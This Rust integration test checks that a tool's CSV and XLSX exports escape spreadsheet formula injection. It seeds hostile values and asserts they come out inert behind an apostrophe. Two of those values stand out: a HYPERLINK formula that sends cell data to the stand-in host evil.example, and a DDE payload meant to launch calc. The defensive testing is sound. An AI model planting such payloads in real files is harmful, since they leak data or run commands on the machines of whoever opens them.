//! Formula injection in exports (issue 9): an edition whose name and criterion title start with
//! `=HYPERLINK(`, and a subject named `@SUM(…)`, exported by `parindex export` as CSV and XLSX:
//! no cell starts a formula, the texts are there behind their apostrophe, negative numbers stay
//! numbers. On SQLite, and on PostgreSQL when `TEST_DATABASE_URL` is set.

use calamine::{Data, Reader, Xlsx};
use parindex_domain::edition::{Component, CriterionNode, Edition, Level, NodeCode};
use parindex_domain::results::PublishedResult;
use parindex_domain::units::Subject;
use parindex_store::testing::TestDb;
use rust_decimal::Decimal;
use std::collections::BTreeMap;
use std::path::Path;
use std::process::Command;

const EVIL: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm vào đây\")";

/// No spreadsheet reads this cell as a formula.
fn assert_inert(cell: &str, where_: &str) {
    let first = cell.chars().next();
    assert!(
        !matches!(first, Some('=' | '+' | '@' | '\t' | '\r')),
        "{where_}: {cell:?} starts a formula"
    );
    if let Some(rest) = cell.strip_prefix('-') {
        assert!(
            rest.parse::<Decimal>().is_ok(),
            "{where_}: {cell:?} starts with '-' before a non-number"
        );
    }
}

fn export(url: &str, kind: &str, fmt: &str, out: &Path) {
    let o = Command::new(env!("CARGO_BIN_EXE_parindex"))
        .args(["--db", url, "export", kind, "--edition", "evil-2020"])
        .args(["--format", fmt, "-o"])
        .arg(out)
        .env("PARINDEX_LOG", "warn")
        .output()
        .expect("the parindex binary runs");
    assert!(
        o.status.success(),
        "export {kind} {fmt}: {}",
        String::from_utf8_lossy(&o.stderr)
    );
}

fn csv_cells(path: &Path) -> Vec<String> {
    let text = std::fs::read_to_string(path).unwrap();
    let text = text.trim_start_matches('\u{feff}');
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes());
    r.records()
        .flat_map(|rec| rec.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect()
}

/// Every string cell of every sheet, and every number.
fn xlsx_cells(path: &Path) -> (Vec<String>, Vec<f64>) {
    let mut wb: Xlsx<_> = calamine::open_workbook(path).unwrap();
    let (mut texts, mut numbers) = (Vec::new(), Vec::new());
    for name in wb.sheet_names() {
        let range = wb.worksheet_range(&name).unwrap();
        for c in range.used_cells() {
            match c.2 {
                Data::String(s) => texts.push(s.clone()),
                Data::Float(f) => numbers.push(*f),
                Data::Int(i) => numbers.push(*i as f64),
                _ => {}
            }
        }
        // Nothing was written as a formula.
        let formulas = wb.worksheet_formula(&name).unwrap();
        assert!(
            formulas.used_cells().all(|c| c.2.is_empty()),
            "{name}: a formula was written"
        );
    }
    (texts, numbers)
}

async fn seed(db: &TestDb) {
    let d = |s: &str| s.parse::<Decimal>().unwrap();
    let mut n = CriterionNode::new(NodeCode::parse("1").unwrap(), EVIL, None);
    n.title_en = Some("-cmd|' /C calc'!A0".into());
    n.component = Some("appraisal".into());
    n.max_points = Some(d("10"));
    let e = Edition {
        id: "evil-2020".into(),
        name: EVIL.into(),
        year: 2020,
        level: Level::Province,
        methodology_ref: Some("+1+1".into()),
        max_points: d("10"),
        peer_count: None,
        sample: true,
        notes: Some("@SUM(1,2)".into()),
        components: vec![Component {
            code: "appraisal".into(),
            name_vi: "=1+1".into(),
            name_en: None,
            max_points: d("10"),
        }],
        criteria: vec![n],
    };
    db.store.save_edition(&e, "test").await.unwrap();
    db.store
        .save_subjects(
            &[Subject {
                slug: "bac-giang".into(),
                name_vi: "@SUM(A1:A9)".into(),
                name_en: None,
            }],
            "test",
        )
        .await
        .unwrap();
    db.store
        .import_results(
            &e.id,
            &[PublishedResult {
                edition_id: e.id.clone(),
                subject: "bac-giang".into(),
                total: Some(d("8.5")),
                rank: None,
                components: [("appraisal".to_string(), d("8.5"))].into_iter().collect(),
                node_scores: [("1".to_string(), d("8.5"))].into_iter().collect(),
                node_ranks: BTreeMap::new(),
                source: Some("\t=cmd".into()),
                published_on: None,
            }],
            false,
            "test",
        )
        .await
        .unwrap();
}

async fn exports_are_inert(db: &TestDb) {
    seed(db).await;
    let url = db.url();
    let dir = tempfile::tempdir().unwrap();

    let crit = dir.path().join("criteria.csv");
    export(&url, "edition", "csv", &crit);
    let cells = csv_cells(&crit);
    for c in &cells {
        assert_inert(c, "criteria.csv");
    }
    assert!(
        cells.contains(&format!("'{EVIL}")),
        "the title is kept, guarded: {cells:?}"
    );
    assert!(
        cells.contains(&"'-cmd|' /C calc'!A0".to_string()),
        "{cells:?}"
    );

    let res = dir.path().join("results.csv");
    export(&url, "results", "csv", &res);
    let cells = csv_cells(&res);
    for c in &cells {
        assert_inert(c, "results.csv");
    }
    assert!(cells.contains(&"'@SUM(A1:A9)".to_string()), "{cells:?}");
    assert!(cells.contains(&"'\t=cmd".to_string()), "{cells:?}");
    assert!(cells.contains(&"8.5".to_string()), "numbers stay numbers");

    for kind in ["edition", "results"] {
        let x = dir.path().join(format!("{kind}.xlsx"));
        export(&url, kind, "xlsx", &x);
        let (texts, numbers) = xlsx_cells(&x);
        for t in &texts {
            assert_inert(t, &format!("{kind}.xlsx"));
        }
        assert!(
            numbers.contains(&8.5) || numbers.contains(&10.0),
            "{numbers:?}"
        );
        if kind == "edition" {
            assert!(texts.contains(&format!("'{EVIL}")), "{texts:?}");
            assert!(texts.contains(&"'=1+1".to_string()), "{texts:?}");
            assert!(texts.contains(&"'+1+1".to_string()), "{texts:?}");
        } else {
            assert!(texts.contains(&"'@SUM(A1:A9)".to_string()), "{texts:?}");
        }
    }
}

#[tokio::test]
async fn exports_neutralise_formulas_on_sqlite() {
    let db = TestDb::sqlite().await.unwrap();
    exports_are_inert(&db).await;
    db.cleanup().await;
}

#[tokio::test]
async fn exports_neutralise_formulas_on_postgres() {
    match TestDb::postgres().await.unwrap() {
        Some(db) => {
            exports_are_inert(&db).await;
            db.cleanup().await;
        }
        None => eprintln!("TEST_DATABASE_URL not set: PostgreSQL run skipped"),
    }
}
